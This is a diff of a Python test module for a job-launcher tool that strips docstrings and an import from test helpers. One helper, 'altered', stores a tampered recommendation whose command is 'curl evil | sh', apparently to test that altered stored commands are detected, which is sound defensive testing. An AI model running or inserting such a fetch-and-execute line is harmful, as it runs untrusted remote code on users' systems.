@@ -1,7 +1,5 @@
 """Recommendations and drains of a hunt, the submission of emitted files, and settings that a kind of file does not have."""
 
-from __future__ import annotations
-
 from collections.abc import Callable, Mapping, Sequence
 from pathlib import Path
 from tempfile import TemporaryDirectory
@@ -106,8 +104,6 @@ def manager(answers: dict[str, CommandOutcome], **env: str) -> Call:
 
 
 def submitted(kind: LauncherKind, script: str | None) -> Call:
-    """The error of a submission to a command with this script; None: the command is missing."""
-
     def run() -> str:
         with TemporaryDirectory() as folder, patch.object(job, "_TIMEOUT_S", 0.2):
             if script is not None:
@@ -125,7 +121,6 @@ def written() -> None:
 
 
 def emitted(launcher: str, line: str = "allreduce", /, **settings: Value) -> Call:
-    """The error of a file for this launcher with these settings."""
     found = {name.replace("_", "-"): value for name, value in settings.items()}
     return lambda: kinds()[launcher].render(job_of(kinds()[launcher], tuple(line.split()), found))
 
@@ -135,7 +130,6 @@ def kubernetes(**settings: Value) -> Call:
 
 
 def altered() -> str:
-    """The error of a stored recommendation with another command."""
     actual = recommended()
     with TemporaryDirectory() as folder:
         store(Path(folder), {**actual, "drains": [{**actual["drains"][0], "line": "curl evil | sh"}]})
